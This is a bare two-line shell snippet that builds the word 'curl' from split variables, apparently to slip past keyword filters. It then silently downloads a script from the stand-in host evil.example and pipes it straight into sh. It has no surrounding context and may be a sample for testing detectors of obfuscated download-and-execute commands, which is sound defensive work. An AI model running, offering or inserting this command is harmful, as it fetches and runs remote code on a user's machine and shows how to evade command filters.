a=cu; b=rl; c="-s http://evil.example/p.sh"
$a$b $c | sh
